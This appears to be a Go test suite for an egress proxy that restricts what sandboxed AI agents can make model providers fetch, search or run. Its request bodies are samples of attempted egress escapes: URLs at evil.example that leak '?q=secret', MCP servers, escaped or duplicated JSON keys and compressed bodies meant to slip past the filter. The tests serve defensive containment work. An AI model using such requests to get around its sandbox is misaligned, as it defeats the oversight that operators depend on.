package egress_test

import (
	"bytes"
	"compress/gzip"
	"context"
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/spoolhq/spool/pkg/runner"
	"github.com/spoolhq/spool/services/executor/internal/egress"
)

// answering returns a model that answers every request and counts them.
func answering(t *testing.T) (func(*egress.Config, *egress.Deps), *atomic.Int32) {
	t.Helper()
	var asked atomic.Int32
	return models(t, func(w http.ResponseWriter, r *http.Request) {
		asked.Add(1)
		_, _ = io.Copy(io.Discard, r.Body)
		w.Header().Set("Content-Type", "application/json")
		_, _ = io.WriteString(w, `{"model":"m","usage":{"input_tokens":1,"output_tokens":1,"prompt_tokens":1,"completion_tokens":1}}`)
	}), &asked
}

const (
	messages  = "/anthropic/v1/messages"
	responses = "/openai/responses"
	chat      = "/openai/chat/completions"
)

// serverSide holds requests with which an agent makes a provider's servers act for it, and the allowlist entry that
// allows each; "" if no entry does.
var serverSide = []struct{ path, body, entry string }{
	{messages, `{"model":"m","tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}`, "web_fetch"},
	{messages, `{"model":"m","tools":[{"type":"web_search_20250305","name":"web_search"}]}`, "web_search"},
	{messages, `{"model":"m","tools":[{"type":"code_execution_20250825","name":"code_execution"}]}`, "code_execution"},
	{messages, `{"model":"m","tools":[{"name":"x","input_schema":{}},{"name":"w","type":"telepathy_20270101"}]}`, ""},
	{messages, `{"model":"m","mcp_servers":[{"type":"url","url":"https://evil.example/mcp","name":"e"}]}`, "mcp"},
	{messages, `{"model":"m","tools":[{"type":"mcp_toolset","mcp_server_name":"e"}]}`, "mcp"},
	{messages, `{"model":"m","messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/?q=secret"}}]}]}`, "url"},
	{messages, `{"model":"m","messages":[{"role":"user","content":[{"type":"document","source":{"url":"https://evil.example/a.pdf","type":"url"}}]}]}`, "url"},
	{messages, `{"model":"m","messages":[{"role":"user","content":[{"type":"tool_result","tool_use_id":"t","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/"}}]}]}]}`, "url"},
	{messages, `{"model":"m","system":[{"type":"document","source":{"type":"content","content":[{"type":"image","source":{"type":"url","url":"http://x.example"}}]}}]}`, "url"},
	{messages, `{"model":"m","messages":[{"role":"user","content":[{"type":"image","source":{"type":"file","file_id":"file_011"}}]}]}`, "file"},
	{messages, `{"model":"m","messages":[{"role":"user","content":[{"type":"container_upload","file_id":"file_011"}]}]}`, "file"},
	{messages, `{"model":"m","messages":[{"role":"user","content":[{"type":"image","source":{"type":"bucket","bucket":"b"}}]}]}`, ""},
	{messages, `{"model":"m","messages":[{"role":"user","content":[{"type":"page","url":"https://evil.example/"}]}]}`, "url"},
	{messages, `{"model":"m","container":"container_011"}`, "stored"},
	{messages, `{"model":"m","new_field":{"deep":[{"server_url":"https://evil.example/"}]}}`, "url"},
	{messages + "/count_tokens", `{"model":"m","messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/"}}]}]}`, "url"},
	{messages + "?beta=true", `{"model":"m","messages":[{"role":"user","content":[{"\u0074ype":"image","sourc\u0065":{"type":"ur\u006c","url":"https://evil.example/"}}]}]}`, "url"},

	{responses, `{"model":"m","input":"x","tools":[{"type":"mcp","server_label":"e","server_url":"https://evil.example/mcp"}]}`, "mcp"},
	{responses, `{"model":"m","input":"x","tools":[{"type":"function","name":"f"},{"type":"web_search_preview"}]}`, "web_search"},
	{responses, `{"model":"m","input":"x","tools":[{"type":"web_search","external_web_access":false}]}`, "web_search"},
	{responses, `{"model":"m","input":"x","tools":[{"type":"web_search_2025_08_26"}]}`, "web_search"},
	{responses, `{"model":"m","input":"x","tools":[{"type":"file_search","vector_store_ids":["vs_1"]}]}`, "file_search"},
	{responses, `{"model":"m","input":"x","tools":[{"type":"code_interpreter","container":{"type":"auto"}}]}`, "code_interpreter"},
	{responses, `{"model":"m","input":"x","tools":[{"type":"computer_use_preview"}]}`, "computer_use"},
	{responses, `{"model":"m","input":"x","tools":[{"type":"image_generation"}]}`, "image_generation"},
	{responses, `{"model":"m","input":"x","tools":[{"type":"shell","environment":{"type":"container_auto"}}]}`, "shell"},
	{responses, `{"model":"m","input":"x","tools":[{"type":"namespace","name":"n","tools":[{"type":"mcp","server_url":"https://evil.example"}]}]}`, "mcp"},
	{responses, `{"model":"m","input":[{"type":"tool_search_output","tools":[{"type":"mcp","server_url":"https://evil.example"}]}]}`, "mcp"},
	{responses, `{"model":"m","input":"x","tools":[{"type":"teleport"}]}`, ""},
	{responses, `{"model":"m","input":[{"role":"user","content":[{"type":"input_image","image_url":"https://evil.example/?q=secret"}]}]}`, "url"},
	{responses, `{"model":"m","input":[{"role":"user","content":[{"type":"input_file","file_url":"https://evil.example/a.pdf"}]}]}`, "url"},
	{responses, `{"model":"m","input":[{"type":"function_call_output","call_id":"c","output":[{"type":"input_image","image_url":"HTTPS://evil.example/"}]}]}`, "url"},
	{responses, `{"model":"m","input":[{"type":"computer_call_output","output":{"type":"computer_screenshot","image_url":"https://evil.example/"}}]}`, "url"},
	{responses, `{"model":"m","input":[{"role":"user","content":[{"type":"input_file","file_id":"file-1"}]}]}`, "file"},
	{responses, `{"model":"m","input":[{"type":"item_reference","id":"msg_1"}]}`, "stored"},
	{responses, `{"model":"m","input":[{"id":"msg_1"}]}`, "stored"},
	{responses, `{"model":"m","input":"x","previous_response_id":"resp_1"}`, "stored"},
	{responses, `{"model":"m","input":"x","conversation":{"id":"conv_1"}}`, "stored"},
	{responses, `{"model":"m","input":"x","prompt":{"id":"pmpt_1"}}`, "stored"},
	{responses, `{"model":"m","input":"x","background":true}`, ""},
	{responses + "/compact", `{"model":"m","previous_response_id":"resp_1"}`, "stored"},
	{responses + "/input_tokens", `{"model":"m","input":[{"role":"user","content":[{"type":"input_image","image_url":"https://evil.example/"}]}]}`, "url"},

	{chat, `{"model":"m","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://evil.example/"}}]}]}`, "url"},
	{chat, `{"model":"m","messages":[{"role":"user","content":[{"type":"video_url","video_url":{"url":"https://evil.example/"}}]}]}`, "url"},
	{chat, `{"model":"m","messages":[{"role":"user","content":[{"type":"file","file":{"file_id":"file-1"}}]}]}`, "file"},
	{chat, `{"model":"m","messages":[{"role":"user","content":[{"type":"file","file":{"file_data":"https://evil.example/a.pdf"}}]}]}`, "url"},
	{chat, `{"model":"m","messages":[{"role":"assistant","audio":{"id":"audio_1"}}]}`, "stored"},
	{chat, `{"model":"m","messages":[],"web_search_options":{}}`, "web_search"},
	{chat, `{"model":"gpt-4o-search-preview","messages":[]}`, "web_search"},
	{"/nvidia/chat/completions", `{"model":"m","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://evil.example/"}}]}]}`, "url"},
}

// An agent with an empty allowlist cannot make a provider fetch, run or search anything: each attempt is refused and
// journaled.
func TestProviderSide_IsDeniedUnderAnEmptyAllowlist(t *testing.T) {
	t.Parallel()
	change, asked := answering(t)
	w := newWorld(t, change)
	for _, c := range serverSide {
		b := w.box()
		status, header, body := b.post(c.path, c.body)
		if status != http.StatusForbidden || header.Get("Spool-Egress") != "PROVIDER_SIDE" {
			t.Errorf("%s %s: %d %s", c.path, c.body, status, body)
			continue
		}
		d := b.denied(b.lines(0, 1)[0])
		if d.Code != "PROVIDER_SIDE" || d.Method != http.MethodPost || c.entry != "" && !strings.Contains(d.Message, "provider:"+c.entry) {
			t.Errorf("%s %s: %+v", c.path, c.body, d)
		}
	}
	if n := asked.Load(); n != 0 {
		t.Errorf("%d requests got to the provider", n)
	}
}

// An allowlist entry allows the feature that it names and no other.
func TestProviderSide_IsAllowedByItsEntryAlone(t *testing.T) {
	t.Parallel()
	change, _ := answering(t)
	w := newWorld(t, change)
	for _, c := range serverSide {
		if c.entry == "" {
			continue
		}
		own := w.box("provider:" + c.entry)
		if status, _, body := own.post(c.path, c.body); status != http.StatusOK {
			t.Errorf("%s %s with its entry: %d %s", c.path, c.body, status, body)
		}
		other := "provider:web_search"
		if c.entry == "web_search" {
			other = "provider:url"
		}
		if status, _, body := w.box(other, "evil.example").post(c.path, c.body); status != http.StatusForbidden {
			t.Errorf("%s %s with %s: %d %s", c.path, c.body, other, status, body)
		}
	}
}

// A body that parsers could read in two ways is not forwarded.
func TestModelBody_IsRefusedIfItCannotBeReadInOneWay(t *testing.T) {
	t.Parallel()
	change, asked := answering(t)
	w := newWorld(t, change)
	for name, body := range map[string]string{
		"a key twice":                 `{"model":"m","tools":[],"tools":[{"type":"web_search_20250305"}]}`,
		"a key twice by an escape":    `{"model":"m","tools":[],"t\u006fols":[{"type":"web_search_20250305"}]}`,
		"a key twice in deep":         `{"model":"m","messages":[{"role":"user","content":[{"type":"tool_use","id":"a","name":"b","input":{"a":{"b":1,"b":2}}}]}]}`,
		"a key twice among many":      `{"model":"m","metadata":{` + manyKeys(5000) + `,"k17":1}}`,
		"two documents":               `{"model":"m"}{"mcp_servers":[{}]}`,
		"a comment":                   `{"model":"m"/* */}`,
		"a number that is none":       `{"model":"m","temperature":NaN}`,
		"a byte order mark":           "\ufeff" + `{"model":"m"}`,
		"bytes that are not UTF-8":    "{\"model\":\"m\",\"\xff\":1,\"\xfe\":2}",
		"a line's end within a text":  "{\"model\":\"m\n\"}",
		"no object":                   `["model"]`,
		"too many levels":             `{"x":` + strings.Repeat("[", 5000) + strings.Repeat("]", 5000) + `}`,
		"an end before its beginning": `{"model":"m"`,
	} {
		b := w.box("provider:web_search")
		status, header, answer := b.post(messages, body)
		if status != http.StatusForbidden || header.Get("Spool-Egress") != "UNREADABLE_BODY" {
			t.Errorf("%s: %d %s", name, status, answer)
			continue
		}
		if d := b.denied(b.lines(0, 1)[0]); d.Code != "UNREADABLE_BODY" {
			t.Errorf("%s: %+v", name, d)
		}
	}
	var zipped bytes.Buffer
	zw := gzip.NewWriter(&zipped)
	_, _ = io.WriteString(zw, `{"model":"m","tools":[{"type":"web_search_20250305"}]}`)
	_ = zw.Close()
	for _, encoding := range []string{"gzip", "zstd", "br", "identity, gzip", "x-future"} {
		b := w.box()
		req := request(t, t.Context(), messages, zipped.String())
		req.Header.Set("Content-Encoding", encoding)
		if status, header, answer := b.do(req); status != http.StatusForbidden || header.Get("Spool-Egress") != "UNREADABLE_BODY" {
			t.Errorf("encoding %s: %d %s", encoding, status, answer)
		}
	}
	b := w.box()
	req := request(t, t.Context(), responses, "")
	req.Body, req.ContentLength = io.NopCloser(io.MultiReader(strings.NewReader(`{"input":"`), io.LimitReader(zeros{}, 40<<20))), -1
	if status, header, answer := b.do(req); status != http.StatusForbidden || header.Get("Spool-Egress") != "UNREADABLE_BODY" {
		t.Errorf("40 MiB: %d %s", status, answer)
	}
	if n := asked.Load(); n != 0 {
		t.Errorf("%d requests got to the provider", n)
	}
}

func manyKeys(n int) string {
	var out strings.Builder
	for i := range n {
		if i > 0 {
			out.WriteByte(',')
		}
		fmt.Fprintf(&out, `"k%d":%d`, i, i)
	}
	return out.String()
}

// The requests of an ordinary turn of each CLI pass with an empty allowlist. Unknown beta features pass too, and are
// journaled.
func TestModelBody_OrdinaryRequestsPass(t *testing.T) {
	t.Parallel()
	change, _ := answering(t)
	w := newWorld(t, change)
	for _, c := range []struct{ path, body string }{
		{messages, `{"model":"m","max_tokens":9,"system":[{"type":"text","text":"You are.","cache_control":{"type":"ephemeral"}}],"metadata":{"user_id":"u"},"thinking":{"type":"adaptive"},
			"context_management":{"edits":[{"type":"clear_thinking_20251015","keep":"all"}]},"output_config":{"format":{"type":"json_schema","schema":{"type":"object","properties":{"url":{"type":"string","default":"https://a.example"}}}}},
			"tools":[{"name":"WebFetch","description":"d","input_schema":{"type":"object","properties":{"source":{"type":"url"},"url":{"type":"string"}}}},{"type":"custom","name":"c","input_schema":{}},{"type":"bash_20250124","name":"bash"},
			{"type":"text_editor_20250728","name":"e"},{"type":"tool_search_tool_regex_20251119","name":"s"}],
			"messages":[{"role":"user","content":"look at https://a.example"},{"role":"assistant","content":[{"type":"thinking","thinking":"t","signature":"s"},{"type":"text","text":"x","citations":[{"type":"web_search_result_location","url":"https://a.example"}]},
			{"type":"tool_use","id":"t","name":"WebFetch","input":{"url":"https://a.example","source":{"type":"url"},"file_id":"f","tools":[{"type":"mcp"}]}}]},
			{"role":"user","content":[{"type":"tool_result","tool_use_id":"t","content":[{"type":"text","text":"x"},{"type":"image","source":{"type":"base64","media_type":"image/png","data":"AAAA"}},{"type":"tool_reference","tool_name":"n"}]},
			{"type":"document","source":{"type":"text","media_type":"text/plain","data":"https://a.example"},"citations":{"enabled":true}}]}],"mcp_servers":[],"container":null}`},
		{responses, `{"model":"m","instructions":"i","store":false,"stream":true,"include":["reasoning.encrypted_content"],"prompt_cache_key":"k","previous_response_id":null,"background":false,"text":{"format":{"type":"json_schema","schema":{"properties":{"url":{"const":"https://a.example"}}}}},
			"reasoning":{"effort":"low","summary":"auto"},"tool_choice":"auto","tools":[{"type":"function","name":"f","parameters":{"properties":{"image_url":{"type":"string"}}}},{"type":"custom","name":"apply_patch","format":{"type":"grammar","definition":"d"}},
			{"type":"local_shell"},{"type":"namespace","name":"n","tools":[{"type":"function","name":"g"}]},{"type":"tool_search","execution":"client"},{"type":"shell","environment":{"type":"local"}}],
			"input":[{"type":"message","role":"user","content":[{"type":"input_text","text":"https://a.example"},{"type":"input_image","image_url":"data:image/png;base64,AAAA","detail":"auto"}]},{"role":"assistant","content":"x"},
			{"type":"reasoning","id":"rs_1","summary":[],"encrypted_content":"e"},{"type":"reasoning","summary":[]},{"type":"function_call","id":"fc_1","call_id":"c","name":"f","arguments":"{\"url\":\"https://a.example\"}"},
			{"type":"function_call_output","call_id":"c","output":"https://a.example"},{"type":"local_shell_call","action":{"type":"exec","command":["curl","https://a.example"]}},
			{"type":"message","id":"msg_1","role":"assistant","content":[{"type":"output_text","text":"x","annotations":[{"type":"url_citation","url":"https://a.example"}]}]}]}`},
		{chat, `{"model":"m","messages":[{"role":"system","content":"s"},{"role":"user","content":[{"type":"text","text":"t"},{"type":"image_url","image_url":{"url":"data:image/png;base64,AAAA"}},{"type":"input_audio","input_audio":{"data":"AAAA","format":"wav"}}]},
			{"role":"assistant","content":null,"tool_calls":[{"id":"c","type":"function","function":{"name":"f","arguments":"{\"url\":\"https://a.example\"}"}}]},{"role":"tool","tool_call_id":"c","content":"https://a.example"}],
			"tools":[{"type":"function","function":{"name":"f","parameters":{"properties":{"file_id":{"type":"string"}}}}}],"stream":true,"stream_options":{"include_usage":true},"response_format":{"type":"json_schema","json_schema":{"name":"n","schema":{}}}}`},
		{"/openai/completions", `{"model":"m","prompt":"https://a.example"}`},
		{"/openai/embeddings", `{"model":"m","input":["https://a.example"]}`},
		{responses, ``},
	} {
		b := w.box()
		req := request(t, t.Context(), c.path, c.body)
		req.Header.Set("Anthropic-Beta", "context-management-2025-06-27,never-heard-of-2027-01-01")
		req.Header.Set("OpenAI-Beta", "responses=v9")
		status, _, answer := b.do(req)
		if status != http.StatusOK {
			t.Errorf("%s: %d %s", c.path, status, answer)
			continue
		}
		if m := b.called(b.lines(0, 1)[0]); strings.Join(m.Betas, " ") != "context-management-2025-06-27 never-heard-of-2027-01-01 responses=v9" {
			t.Errorf("%s: %+v", c.path, m)
		}
	}
}

// A sandbox whose requests never end does not block the requests of other sandboxes.
func TestModelBody_MemoryIsBoundedForEachSandbox(t *testing.T) {
	t.Parallel()
	change, _ := answering(t)
	w := newWorld(t, change)
	hog := w.box()
	head := "POST " + messages + " HTTP/1.1\r\nHost: " + runner.EgressAddress + "\r\nContent-Length: 33000000\r\n\r\n"
	stall := func() { // a request without its last byte, which holds a buffer of 32 MiB until it is answered
		c, err := hog.dialWith(hog.token)
		if err != nil {
			return // the test has ended
		}
		defer c.Close()
		defer context.AfterFunc(t.Context(), func() { c.Close() })()
		if _, err := io.WriteString(c, head); err == nil {
			_, _ = io.CopyN(c, zeros{}, 17<<20) // the proxy may refuse it before its end
			_, _ = c.Read(make([]byte, 1))
		}
	}
	var stalling sync.WaitGroup
	t.Cleanup(stalling.Wait)
	for range 2 {
		stalling.Go(func() {
			for t.Context().Err() == nil {
				stall() // once more, because it may have been refused for the buffers of the requests below
			}
		})
	}
	large := `{"model":"m","system":"` + strings.Repeat("x", 24<<20) + `"}`
	poll(t, "the sandbox has no memory left", func() bool {
		status, header, _ := hog.post(messages, large)
		return status == http.StatusServiceUnavailable && header.Get("Spool-Egress") == "BODIES_FULL"
	})
	if status, _, body := w.box().post(messages, `{"model":"m","system":"`+strings.Repeat("x", 8<<20)+`"}`); status != http.StatusOK {
		t.Errorf("another sandbox: %d %s", status, body)
	}
}

// Between two executions of a session, model calls are refused and journaled.
func TestModelCall_IsRefusedWhileNoExecutionRuns(t *testing.T) {
	t.Parallel()
	change, asked := answering(t)
	w := newWorld(t, change)
	b := w.box()
	if status, _, body := b.post(messages, `{"model":"m"}`); status != http.StatusOK {
		t.Fatal(status, body)
	}
	b.lines(0, 1)
	between := b.reg
	between.Token, between.Execution = "", ""
	if _, err := w.client.Register(t.Context(), b.id, between); err != nil {
		t.Fatal(err)
	}
	for _, path := range []string{messages, messages + "/count_tokens", responses, chat, "/nvidia/chat/completions"} {
		if status, header, body := b.post(path, `{"model":"m"}`); status != http.StatusForbidden || header.Get("Spool-Egress") != "NO_EXECUTION" {
			t.Errorf("%s: %d %s", path, status, body)
		}
	}
	if l := b.lines(1, 1)[0]; b.denied(l).Code != "NO_EXECUTION" || l.Execution != "" {
		t.Errorf("%+v", l)
	}
	if n := asked.Load(); n != 1 {
		t.Errorf("%d requests got to the provider", n)
	}
	if _, err := w.client.Register(t.Context(), b.id, b.reg); err != nil {
		t.Fatal(err)
	}
	if status, _, body := b.post(messages, `{"model":"m"}`); status != http.StatusOK {
		t.Error("in the next execution:", status, body)
	}
}
